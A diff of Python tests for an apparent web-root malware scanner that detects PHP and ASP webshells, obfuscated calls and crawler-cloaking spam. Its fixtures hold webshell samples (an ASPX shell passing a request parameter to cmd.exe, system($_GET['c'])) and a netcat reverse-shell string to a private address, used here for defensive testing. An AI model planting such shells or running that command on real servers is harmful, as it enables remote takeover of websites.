@@ -85,3 +85,94 @@ def test_an_asp_picture_shell_with_nul_bytes_is_read_as_a_script():
              b"<%@ Page Language=\"C#\" %><% System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + Request[\"c\"]); %>")
     verdict = analyse.analyse("upload/avatar.aspx", shell, 10, [])
     assert verdict and verdict.get("kind") == "webshell", verdict
+
+
+# Literal lookups in a large text go to its distinct names first (php.words_of); these compare them with the plain
+# lookups in the text itself (WORDS_FROM raised so that no text is large), on texts of both sizes. NEAR_MISSES holds
+# the name parts of literals without the literals ($_get, eval(, php://input, user-agent, ${').
+NEAR_MISSES = "<?php\n$x_getx = 1; xeval (1); myphp:/inputs; user_agentx-agent; ${ 'a'}; nc-e; cmd_exe; /bin/shx\n"
+LITERALS = ("<?php\n$s = \"nc -e /bin/sh 10.0.0.1\"; // scatter hitam\n$a = 'system'; $b = \"'assert'\";\n"
+            "echo 'uname -a', 'rtp live', ' slot', 'poker'; @eval ( $x ); $_postx = xeval($y);\n")
+
+
+def _lookups(low):
+    from ansible_collections.sitekeeper.website.plugins.module_utils.docroot import php, spam
+
+    ev = php.Evidence()
+    php._features(low, ev)
+    return php.heads_in(low), php.has_request_input(low), spam._gated(low), analyse._deep_marker_in(low), ev.found
+
+
+def test_lookups_in_the_words_of_a_large_text_find_what_the_text_holds(monkeypatch):
+    from ansible_collections.sitekeeper.website.plugins.module_utils.docroot import php
+
+    for body in (LITERALS, FILLER + LITERALS, FILLER, FILLER + "$_GET['x'] 'exec' ${'a'}\n", NEAR_MISSES,
+                 FILLER + NEAR_MISSES):
+        low = ("<?php\n" + body + "passthru(\n proc_open( 'shell_exec' cmd.exe\n").lower()
+        assert len(low) < php.WORDS_FROM or php.words_of(low) is not low
+        fast = _lookups(low)
+        monkeypatch.setattr(php, "WORDS_FROM", 1 << 40)
+        assert _lookups(low) == fast
+        monkeypatch.undo()
+        # Each head is present exactly when the text holds it (the shorter ones it contains are there too).
+        assert fast[0] == {name for name, _parent, _spelling in php._LOOKUPS if name in low} | {
+            quoted for pairs in php._QUOTED_OF.values() for quoted, _spelling in pairs if quoted in low}
+        if LITERALS in body:  # literals with white space, quoted names, a spam word, a decoding marker
+            assert {"nc -e", "'system'", "'assert'"} <= fast[0] and fast[2] and fast[3]
+        assert "'shell_exec'" in fast[0] and "cmd.exe" in fast[0]
+
+
+def test_the_words_of_one_text_never_answer_for_another():
+    from ansible_collections.sitekeeper.website.plugins.module_utils.docroot import php
+
+    shell = ("<?php\n" + FILLER + "system($_GET['c']);\n").encode()
+    plain = ("<?php\n" + FILLER + "printf($_GET['c']);\n").encode()
+    assert len(shell) > php.WORDS_FROM
+    assert analyse.analyse("a.php", shell, 10, [])["kind"] == "webshell"
+    assert analyse.analyse("b.php", plain, 10, [])["kind"] is None
+    assert analyse.analyse("a.php", shell, 10, [])["kind"] == "webshell"
+
+
+def test_a_literal_in_parentheses_loses_them_only_where_no_call_or_index_precedes():
+    # The white space before the parenthesis goes with it; after a name, a closing bracket or white space that
+    # follows one, the parentheses are a call's and stay.
+    assert decode._join("$x = ('abc');") == "$x ='abc';"
+    assert decode._join("x = (('abc'));") == "x = ('abc');"
+    assert decode._join("f ('abc')") == "f ('abc')"
+    assert decode._join("]('x')") == "]('x')"
+    assert decode._join("(\n ('abc')") == "('abc'"
+    assert decode._join("$a[ ('k')]") == "$a['k']"
+    assert decode._join("= \t ( 'x' )") == "='x'"
+    assert decode._join("('x')") == "'x'"
+
+
+def test_folding_joins_again_what_an_earlier_join_made_joinable():
+    # ('sy' . 'stem') needs two joins: the pieces first, then the parentheses around the joined literal; here the
+    # second piece only becomes a literal once the variable is folded, then $f is folded in turn.
+    assert decode.normalise("$f = ('sy' . 'stem'); $f($_GET['c']);") == "$f ='system'; 'system'($_GET['c']);"
+    folded = decode.normalise("$a = 'stem'; $f = ('sy' . $a); $f($_GET['c']);")
+    assert folded == "$a = 'stem'; $f ='system'; 'system'($_GET['c']);"
+
+
+def test_a_text_with_characters_beyond_latin_1_is_looked_up_as_it_is():
+    from ansible_collections.sitekeeper.website.plugins.module_utils.docroot import php
+
+    low = FILLER.lower() + "\u0100 eval($x);"
+    assert php.words_of(low) is low
+    assert "eval" in php.heads_in(low)
+
+
+def test_the_crawler_check_finds_the_match_a_search_finds():
+    import re
+
+    from ansible_collections.sitekeeper.website.plugins.module_utils.docroot import spam
+
+    first = re.findall(r"[a-z_-]{5,}", spam._BOT_CHECK.pattern.split("[\\s\\S]")[0]) + ["googlebot", "bingbot", "slurp",
+                                                                                          "yandex", "baiduspider"]
+    assert sorted(first) == sorted(spam._BOT_CHECK_FIRST)
+    texts = ["if (strpos($_server['%s'], 'googlebot') !== false) echo $links;" % word for word in first]
+    texts += ["x %s y ... http_user_agent z bingbot" % word for word in first]
+    texts += ["nothing here: referer only", "slurp " + "x" * 500 + " user-agent bot", "http_referer googlebot"]
+    for text in texts:
+        found, searched = spam._bot_check(text), spam._BOT_CHECK.search(text)
+        assert (found and found.span()) == (searched and searched.span()), text
